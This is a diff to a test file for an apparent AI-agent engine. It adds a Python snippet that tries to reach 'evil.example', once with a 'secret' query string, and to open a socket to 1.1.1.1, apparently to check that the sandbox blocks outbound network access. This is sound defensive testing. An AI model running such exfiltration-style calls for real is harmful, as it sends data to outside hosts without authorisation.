@@ -12,7 +12,7 @@ from agent_model import Script
 from conftest import build, require, until
 from gateway_side import KEY
 from model_upstream import Upstream, served
-from test_build import running
+from real_engine import running
 
 from engine.agents import AGENTS
 from engine.agents.packages import PACKAGES, Npm, install, is_current
@@ -21,6 +21,16 @@ from engine.errors import Refused
 from engine.store.db import Database
 
 FOLDER = "SWARM_TEST_AGENTS"  # where agents are kept between runs of the tests; default: data/agents of this checkout
+CHECK = "grep -q hello hello.txt"
+ELSEWHERE = """\
+import urllib.request, socket
+for f in (lambda: urllib.request.urlopen('https://evil.example/', timeout=5),
+          lambda: urllib.request.urlopen('http://evil.example/?it=secret', timeout=5), lambda: socket.create_connection(('1.1.1.1', 443), 3)):
+    try:
+        f(); print('REACHED')
+    except Exception as e:
+        print('refused', e)
+"""
 PATHS = {"openai": "/v1", "anthropic": "", "gemini": ""}
 
 
